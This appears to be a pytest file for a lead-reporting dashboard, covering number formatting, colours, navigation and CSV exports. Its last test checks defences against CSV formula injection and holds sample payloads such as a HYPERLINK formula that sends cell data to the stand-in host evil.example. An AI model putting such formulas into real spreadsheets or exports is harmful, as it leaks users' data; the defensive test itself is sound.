"""Numbers read the same everywhere; exports carry aggregates only, suppression and their filters."""

from __future__ import annotations

from datetime import date, datetime

import polars as pl
import pytest

from dashboard.access.viewer import ALL_PAGES, DEMO_VIEWER
from dashboard.filters.url_state import Choices, FilterState
from dashboard.filters.view import View
from dashboard.navigation import PAGE_SPECS
from dashboard.ui.charts import COLORS, metric_color
from dashboard.ui.export import csv_text, export_frame, file_name
from dashboard.ui.format import NO_CHANGE, format_delta, format_value
from metrics.registry import METRIC_COLUMNS


@pytest.mark.parametrize(
    ("value", "fmt", "expected"),
    [
        (12345, "count", "12,345"),
        (0.8734, "percent", "87.3 %"),
        (0.0, "percent", "0.0 %"),
        (42.4, "minutes", "42 min"),
        (4.25, "minutes", "4.2 min"),
        (95.0, "minutes", "1 h 35 min"),
        (120.0, "minutes", "2 h"),
        (3000.0, "minutes", "2 d 2 h"),
        (239.6, "money", "€240"),
        (14.957, "money", "€14.96"),
        (10.38, "ratio", "+1,038 %"),
        (-0.5, "ratio", "-50 %"),
        (2.66, "number", "2.7"),
        (None, "percent", "–"),
        (float("nan"), "count", "–"),
    ],
)
def test_format_value(value: float | None, fmt: str, expected: str) -> None:
    assert format_value(value, fmt) == expected  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("name", "current", "previous", "expected"),
    [
        ("follow_up_rate", 0.61, 0.58, "+3.0 pts"),
        ("follow_up_rate", 0.6100, 0.61004, NO_CHANGE),
        ("leads", 1444, 1430, "+1.0 %"),
        ("leads", 5, 0, "+5"),
        ("cost_per_sale", 240.0, 0.0, None),
        ("median_first_response_min", 166.0, 321.0, "-2 h 35 min"),
        ("conversion_rate", None, 0.1, None),
        ("roi", -1.0, 33.547, "-3,454.7 pts"),  # thousands separated, like the values
        ("leads", 25000, 1000, "+2,400.0 %"),
    ],
)
def test_format_delta(name: str, current: float | None, previous: float | None, expected: str | None) -> None:
    assert format_delta(name, current, previous) == expected


def test_every_metric_has_a_colour_that_means_something() -> None:
    assert all(metric_color(name) in COLORS.values() for name in METRIC_COLUMNS)
    assert metric_color("conversion_rate") == metric_color("sold") == COLORS["sold"]
    assert metric_color("undelivered") == COLORS["undelivered"]


def test_every_page_of_the_access_rules_is_in_the_navigation() -> None:
    assert tuple(spec.url_path for spec in PAGE_SPECS) == ALL_PAGES


VIEW = View(
    DEMO_VIEWER,
    FilterState(date(2026, 1, 1), date(2026, 1, 31), "previous", (("dealer_id", ("D1",)),)),
    Choices(labels={"dealer_id": {"D1": "Autohaus Nord"}}),
    datetime(2026, 2, 1),
    5,
)


def test_export_writes_labels_units_percent_and_the_suppression_note() -> None:
    frame = pl.DataFrame(
        {
            "market": ["IT", "DE"],
            "leads": [120, None],
            "follow_up_rate": [0.5, None],
            "suppressed": [False, True],
        }
    )
    out = export_frame(frame, min_group_size=5, labels={"market": "Market"})
    assert out.columns == ["Market", "Leads", "Follow-up rate (%)", "note"]
    assert out.rows() == [("IT", 120, 50.0, ""), ("DE", None, None, "fewer than 5 leads")]
    text = csv_text(out, title="Overview by market", view=VIEW)
    assert text.splitlines()[1] == "# Period and filters: 2026-01-01 to 2026-01-31; Dealer: Autohaus Nord"
    assert "fewer than 5 leads are suppressed" in text


def test_file_name_carries_period_and_filters_in_safe_characters() -> None:
    assert (
        file_name("Overview by market", VIEW)
        == "leadline_Overview-by-market_2026-01-01_2026-01-31_dealer-D1.csv"
    )


def test_a_campaign_named_like_a_formula_opens_as_text_in_a_spreadsheet() -> None:
    """Attack: a lead source names its campaign ``=HYPERLINK(...)``; the brand marketer's CSV must
    not run it when opened in a spreadsheet (OWASP CSV injection). Numbers stay numbers."""
    frame = pl.DataFrame(
        {
            "campaign": ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd", "-1+1", "@SUM(A1)", "\tx", "Spring"],
            "roi": [-12.5, 1.0, 2.0, 3.0, 4.0, 5.0],
        }
    )
    rows = csv_text(frame, title="Campaigns", view=VIEW).splitlines()[3:]
    assert rows[0] == "campaign,roi"
    cells = [row.rsplit(",", 1) for row in rows[1:]]
    assert [value for _, value in cells] == ["-12.5", "1.0", "2.0", "3.0", "4.0", "5.0"]
    assert all(name.strip('"').startswith("'") for name, _ in cells[:5]), cells
    assert cells[5][0] == "Spring"
